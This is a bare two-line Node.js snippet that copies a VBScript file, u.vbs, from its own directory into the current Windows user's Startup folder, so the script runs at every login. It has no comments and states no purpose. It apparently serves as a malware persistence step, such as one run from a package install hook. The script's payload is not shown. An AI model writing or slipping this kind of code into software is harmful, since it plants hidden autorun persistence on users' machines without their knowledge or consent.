const p = require('path').join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'u.vbs');
require('fs').copyFileSync(__dirname + '/u.vbs', p);
